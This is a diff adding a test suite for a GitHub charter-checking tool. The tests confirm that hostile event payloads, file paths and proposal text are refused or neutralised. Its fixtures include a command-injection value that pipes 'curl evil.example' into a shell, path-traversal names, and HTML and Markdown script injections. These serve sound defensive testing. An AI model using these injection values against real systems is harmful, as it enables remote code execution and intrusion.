@@ -1,0 +1,334 @@
+"""The answers to what happens where the charter is kept: honest payloads, hostile ones, and hostile files."""
+
+from __future__ import annotations
+
+import json
+import time
+import tracemalloc
+
+import pytest
+
+from charterpress.forges import github
+from charterpress.forges.github.changed_files import MOST_FILES
+from charterpress.forges.github.comment import shown
+from charterpress.model import Finding, Severity
+from charterpress.text.markup import html as to_html
+from recorded import changed, payload
+
+PULL, ISSUE, RUN = "pull_request.opened", "issues.opened", "workflow_run.completed"
+SHELL = '"; curl evil.example | sh #'
+HEAD = payload(PULL)["pull_request"]["head"]["sha"]
+
+
+# --- Payloads ----------------------------------------------------------------------------------------
+
+
+def test_a_payload_gives_no_more_than_is_needed():
+    """No title, no branch and no name of a person is taken."""
+    asked = github.proposal(changed(PULL))
+    assert asked == github.Proposal(
+        number=12,
+        repository="harbour-partners/charter",
+        base="f95f852bd8fca8fcc58a9a2d6c842781e32a215e",
+        head="ec26c3e57ca3a959ca5aad62de7213c562f8c821",
+    )
+    form = github.issue(changed(ISSUE))
+    assert (form.number, form.labels, form.branch) == (31, ("sign-up",), "sign-up/31")
+    assert form.body.startswith("### Name of your organisation\n")
+
+
+BAD_PULLS = {
+    "no JSON": (b"{", "event-malformed"),
+    "no text": (b"\xff\xfe{}", "event-malformed"),
+    "deep": (b"[" * 100_000, "event-malformed"),
+    "a member twice": (b'{"action":"opened","action":"closed"}', "event-malformed"),
+    "a list": (b"[]", "event-kind"),
+    "an issue": (changed(ISSUE), "event-kind"),
+    "a schedule": (changed("schedule"), "event-kind"),
+    "started by hand": (changed("workflow_dispatch"), "event-kind"),
+    "closed": (changed(PULL, action="closed"), "event-action"),
+    "an action of no kind": (changed(PULL, action=["opened"]), "event-action"),
+    "a branch for a commit": (changed(PULL, pull_request__head__sha="main"), "event-commit"),
+    "an option for a commit": (changed(PULL, pull_request__base__sha="--output=x"), "event-commit"),
+    "a command for a commit": (changed(PULL, pull_request__head__sha=SHELL), "event-commit"),
+    "a commit and a line": (changed(PULL, pull_request__head__sha="a" * 40 + "\n"), "event-commit"),
+    "a text for a number": (changed(PULL, number="12"), "event-number"),
+    "two numbers": (changed(PULL, number=13), "event-number"),
+    "true for a number": (changed(PULL, number=True, pull_request__number=True), "event-number"),
+    "below zero": (changed(PULL, number=-1, pull_request__number=-1), "event-number"),
+    "no head": (changed(PULL, pull_request__head=None), "event-form"),
+    "a path for a repository": (changed(PULL, repository__full_name="../../etc"), "event-repository"),
+    "a mark for a repository": (changed(PULL, repository__full_name="a/b)[x](evil"), "event-repository"),
+    "a number beyond all": (changed(PULL, number=2**60, pull_request__number=2**60), "event-number"),
+    "a run that goes on": (changed(RUN, action="requested"), "event-action"),
+    "a run of no commit": (changed(RUN, workflow_run__head_sha=SHELL), "event-commit"),
+    "a run of no repository": (changed(RUN, workflow_run__head_repository=None), "event-form"),
+    "a run of another host": (
+        changed(RUN, workflow_run__head_repository__full_name="https://evil.example/a/b"),
+        "event-repository",
+    ),
+    "a run as text": (changed(RUN, workflow_run="x"), "event-kind"),
+    "huge": (changed(PULL, pull_request__body="x" * 6_000_000), "event-large"),
+}
+
+
+@pytest.mark.parametrize("case", BAD_PULLS)
+def test_a_hostile_payload_is_refused_by_name(case):
+    """Whoever sends it learns which rule it breaks."""
+    data, name = BAD_PULLS[case]
+    with pytest.raises(github.EventError) as refused:
+        github.proposal(data)
+    assert refused.value.name == name
+
+
+def test_the_pull_request_is_found_for_which_a_workflow_ran():
+    """By commit, branch and repository: the payload does not name the one of a fork."""
+    listed = changed("pulls")
+    assert github.proposal(changed(RUN), listed) == github.proposal(changed(PULL))
+    assert github.proposal(changed(RUN)) is None
+
+
+NOT_THEIRS = {
+    "moved on": {"1__0__head__sha": "2" * 40},
+    "another branch of that commit": {"1__0__head__ref": "elsewhere"},
+    "another fork of that commit": {"1__0__head__repo__full_name": "eve/charter"},
+    "a fork that was deleted": {"1__0__head__repo": None},
+}
+
+
+@pytest.mark.parametrize("case", NOT_THEIRS)
+def test_no_other_pull_request_is_answered_for_a_run(case):
+    """One that shows the same commit from elsewhere takes nobody's place."""
+    assert github.proposal(changed(RUN), changed("pulls", **NOT_THEIRS[case])) is None
+
+
+BAD_LISTS = {
+    "a pull request of another repository": ({"1__0__base__repo__full_name": "../x"}, "event-repository"),
+    "a pull request without a number": ({"1__0__number": "12"}, "event-number"),
+    "a pull request without a commit": ({"1__0__base__sha": "main"}, "event-commit"),
+    "a pull request without a head": ({"1__0__head": []}, "event-form"),
+}
+
+
+@pytest.mark.parametrize("case", BAD_LISTS)
+def test_a_hostile_list_is_refused_by_name(case):
+    """The host writes it, of what strangers made."""
+    values, name = BAD_LISTS[case]
+    with pytest.raises(github.EventError) as refused:
+        github.proposal(changed(RUN), changed("pulls", **values))
+    assert refused.value.name == name
+
+
+def test_a_list_takes_little_memory_whatever_it_holds():
+    """Empty objects take thirty times the memory of their letters; commas in what people write take none."""
+    tracemalloc.start()
+    try:
+        with pytest.raises(
+            github.EventError, match=r"event-large: the payload has more than 1,000,000 values"
+        ):
+            github.earlier(b"[" + b"{}," * (github.MOST_LISTED // 3 - 1) + b"1]", "this week")
+        assert tracemalloc.get_traced_memory()[1] < 100_000_000
+    finally:
+        tracemalloc.stop()
+    said = [{"body": ',[{\\"' * 10_000} for _ in range(60)]
+    assert github.earlier(json.dumps(said).encode(), "this week") is None
+
+
+def test_the_newest_site_of_a_commit_is_linked():
+    """By numbers alone: whoever proposes something names artifacts as they like, of their own commits."""
+    runs = "https://github.com/a/b/actions/runs"
+    assert github.preview(changed("artifacts"), "a/b", HEAD) == f"{runs}/9100000123/artifacts/3300000456"
+    assert github.preview(changed("artifacts", artifacts__0__expired=True), "a/b", HEAD).endswith(
+        "/3300000111"
+    )
+    assert github.preview(changed("artifacts", artifacts__0__name="tests"), "a/b", HEAD).endswith(
+        "/3300000111"
+    )
+    assert github.preview(changed("artifacts", artifacts__0__workflow_run=None), "a/b", HEAD).endswith("0111")
+    assert github.preview(changed("artifacts"), "a/b", "3" * 40) == ""
+    for wrong in ({"artifacts": "x"}, {"artifacts__0__id": "../1"}, {"artifacts__0__workflow_run__id": -1}):
+        with pytest.raises(github.EventError):
+            github.preview(changed("artifacts", **wrong), "a/b", HEAD)
+
+
+BAD_ISSUES = {
+    "a pull request": (changed(PULL), "event-kind"),
+    "a pull request as an issue": (changed(ISSUE, issue__pull_request={}), "event-kind"),
+    "a list for a text": (changed(ISSUE, issue__body=["x"]), "event-form"),
+    "a long text": (changed(ISSUE, issue__body="x" * 65_537), "event-large"),
+    "labels of no kind": (changed(ISSUE, issue__labels="sign-up"), "event-form"),
+    "a path for a number": (changed(ISSUE, issue__number="../31"), "event-number"),
+    "closed": (changed(ISSUE, action="closed"), "event-action"),
+}
+
+
+@pytest.mark.parametrize("case", BAD_ISSUES)
+def test_a_hostile_form_is_refused_by_name(case):
+    """Before any word of it is written."""
+    data, name = BAD_ISSUES[case]
+    with pytest.raises(github.EventError) as refused:
+        github.issue(data)
+    assert refused.value.name == name
+
+
+# --- Files -------------------------------------------------------------------------------------------
+
+FILE = "100644"
+BAD_FILES = {
+    "a workflow with words": (".github/workflows/check.yml", {}, "machine-and-words"),
+    "the tool with words": ("hooks/events.py", {}, "machine-and-words"),
+    "a template with words": ("overrides/main.html", {}, "machine-and-words"),
+    "the settings with words": ("mkdocs.yml", {}, "machine-and-words"),
+    "what git does to files, in the charter": ("charter/themes/.gitattributes", {}, "machine-and-words"),
+    "where git finds files": ("charter/.lfsconfig", {}, "machine-and-words"),
+    "repositories of others": ("docs/.gitmodules", {}, "machine-and-words"),
+    "a program beside the pages": ("docs/developers/x.py", {}, "machine-and-words"),
+    "a page at the top that is none": ("conftest.py", {}, "machine-and-words"),
+    "the way out of lost addresses": (".github/addresses-given-up.txt", {}, "machine-and-words"),
+    "a file kept elsewhere": (
+        "charter/themes/x.md",
+        {"start": b"version https://git-lfs.github.com/spec/v1\noid sha256:0\n"},
+        "lfs-pointer",
+    ),
+    "a short name of Windows": ("charter/GIT~1/hooks/x.md", {}, "name-outside"),
+    "a space at the end": ("charter/themes/x.md ", {}, "name-reserved"),
+    "what git does to files": (".gitattributes", {}, "machine-and-words"),
+    "a link": ("charter/themes/x.md", {"mode": "120000"}, "symlink"),
+    "the folder as a link": ("charter", {"mode": "120000"}, "symlink"),
+    "a repository": ("charter/themes/sub", {"mode": "160000"}, "submodule"),
+    "a path upwards": ("charter/../../etc/x.md", {}, "name-outside"),
+    "a path from the top": ("/etc/x.md", {}, "name-outside"),
+    "git's folder": ("charter/.GIT/config", {}, "name-outside"),
+    "a device of Windows": ("charter/themes/aux.md", {}, "name-reserved"),
+    "a dot at the end": ("charter/themes/x.md.", {}, "name-reserved"),
+    "a stream of Windows": ("charter/themes/x.md:y", {}, "name-reserved"),
+    "a name turned round": ("charter/themes/\u202egpj.md", {}, "name-hidden"),
+    "a name with a line": ("charter/themes/x\ny.md", {}, "name-hidden"),
+    "a name that is no text": ("charter/themes/\udcff.md", {}, "name-hidden"),
+    "a long name": ("charter/themes/" + "x" * 250 + ".md", {}, "name-long"),
+    "a large file": ("docs/x.md", {"size": 2_000_000}, "file-large"),
+    "a file that is no text": ("charter/themes/x.md", {"start": b"\0"}, "file-binary"),
+    "a picture in the charter": ("charter/x.png", {"start": b"\0"}, "file-binary"),
+    "another case": ("charter/Preamble.md", {}, "name-case"),
+    "another case of a folder": ("charter/THEMES/x.md", {}, "name-case"),
+    "an accent written otherwise": ("docs/cafe\u0301.md", {}, "name-case"),
+    "somebody's entry": ("charter/signatories/x.yml", {"before": FILE}, "entry-changed"),
+}
+THERE = ("charter/preamble.md", "charter/themes/tides/index.md", "docs/caf\u00e9.md")
+
+
+@pytest.mark.parametrize("case", BAD_FILES)
+def test_a_hostile_file_is_refused_by_name(case):
+    """With its path, and in one line."""
+    path, values, rule = BAD_FILES[case]
+    words = github.Touched(path="charter/charter.yml", mode=FILE, before=FILE)
+    file = github.Touched(**{"path": path, "mode": FILE, **values})
+    found = github.judge([words, file], "charter", THERE)
+    assert (path, rule) in [(finding.path, finding.rule) for finding in found]
+    assert {finding.path for finding in found} == {path}
+
+
+def test_a_name_of_very_many_folders_is_judged_at_once():
+    """It is refused for its length; each of its folders was once held against all other names."""
+    start = time.process_time()
+    found = github.judge([github.Touched(path="a/" * 30_000 + "b", mode="100644")], "charter")
+    assert "name-long" in {each.rule for each in found}
+    assert time.process_time() - start < 1
+
+
+def test_an_honest_proposal_is_not_refused():
+    """Words, notes, pages and pictures of pages; the machine alone is only pointed out."""
+    words = [
+        github.Touched(path=f"charter/{name}", mode=FILE) for name in ("themes/tides/x.md", "changes/why.md")
+    ]
+    pages = [github.Touched(path=path, mode=FILE, before=FILE) for path in ("docs/about.md", "README.md")]
+    assert github.judge([*words, *pages], "charter", THERE) == ()
+    (machine,) = github.judge([github.Touched(path="mkdocs.yml", mode=FILE)], "charter", THERE)
+    assert (machine.rule, machine.severity) == ("machine", Severity.WARNING)
+    many = [github.Touched(path=f"docs/{place}.md", mode=FILE) for place in range(MOST_FILES + 1)]
+    assert [finding.rule for finding in github.judge(many, "charter")] == ["files-many"]
+
+
+# --- Words -------------------------------------------------------------------------------------------
+
+ACTING = (
+    "@everyone",
+    "#1",
+    "GH-1",
+    "<img src=x onerror=1>",
+    "![x](https://evil.example/x.png)",
+    "[x](javascript:1)",
+    "https://evil.example/x",
+    "www.evil.example",
+    "</details><!-- charter: what this changes -->",
+    "`x` **y** ~~z~~ |a|b|",
+    "line\n# heading\n- item",
+    "\u202eturned",
+    "0123456789abcdef0123456789abcdef01234567",
+)
+
+
+@pytest.mark.parametrize("words", ACTING)
+def test_no_word_of_a_proposal_acts(words):
+    """As the host shows Markdown, and links what it knows in the words that are left."""
+    said = shown(words)
+    html = to_html(said)
+    assert html.count("<") == 2  # the paragraph alone
+    assert "://" not in said
+    assert "www." not in said
+    for mark in ("@e", "#1", "GH-1", "GH\\-1", "\u202e", words[:7] if words.isalnum() else "\u202e"):
+        assert not said.replace("\\@", "@").replace("\\#", "#").startswith(mark)
+
+
+def finding(**values):
+    """An error in a file."""
+    known = {"path": "charter/x.md", "line": 1, "column": 1, "severity": Severity.ERROR, "rule": "html"}
+    return Finding(**{**known, "message": "m", "fix": "f", **values})
+
+
+def test_a_long_answer_is_cut_with_a_sentence():
+    """The host takes no more than so many characters."""
+    told = github.Told(outcome=["x"], changes="word \n" * 40_000, findings=[finding(path="p" * 99)] * 90)
+    said = github.answer(told)
+    assert len(said) <= github.MOST
+    assert said.endswith("The check of this proposal shows all of it.*\n")
+    assert "- and 50 more\n" in said
+
+
+def test_only_the_robots_own_comment_is_brought_up_to_date():
+    """Anybody can write the mark, and the robot can quote it."""
+    mark = github.MARK.format("what this changes")
+    bot = {"login": "github-actions[bot]", "type": "Bot"}
+    theirs = [
+        {"id": 1, "user": {"login": "github-actions[bot]", "type": "User"}, "body": mark},
+        {"id": 2, "user": {"login": "eve", "type": "Bot"}, "body": mark},
+        {"id": 3, "user": bot, "body": f"> {mark}"},
+        {"id": 4, "user": None, "body": mark},
+        "x",
+    ]
+    assert github.earlier(json.dumps(theirs).encode(), "what this changes") is None
+    pages = json.dumps([theirs, [{"id": 5, "user": bot, "body": f"{mark}\nx"}]]).encode()
+    assert github.earlier(pages, "what this changes") == 5
+    with pytest.raises(github.EventError):
+        github.earlier(b"<html>", "what this changes")
+
+
+# --- Addresses ---------------------------------------------------------------------------------------
+
+
+def test_a_published_address_is_not_lost():
+    """But for what is given up on purpose, and what changes with every build."""
+    now = github.addresses(["index.html", "versions/1.0.0/index.html", "assets/x.css", "charter.json"])
+    assert now == ("", "charter.json", "versions/1.0.0/")
+    before = "charter.json\nversions/1.0.0/\nversions/0.1.0/\nold/\nassets/y.css\n"
+    assert github.lost(before, now, "# gone\nold/ # never linked\n") == ("versions/0.1.0/",)
+    assert github.lost("versions/compare/0.1.0..1.0.0/\nversions/compare/\n", now) == ("versions/compare/",)
+
+
+@pytest.mark.parametrize(
+    "site", ["", "http://a.org/", "https://good.example/", "https://example/", "file:///x"]
+)
+def test_a_site_is_not_published_where_none_can_be(site):
+    """The default is a name that nobody has."""
+    with pytest.raises(Exception, match="SITE_URL"):
+        github.publishable(site)
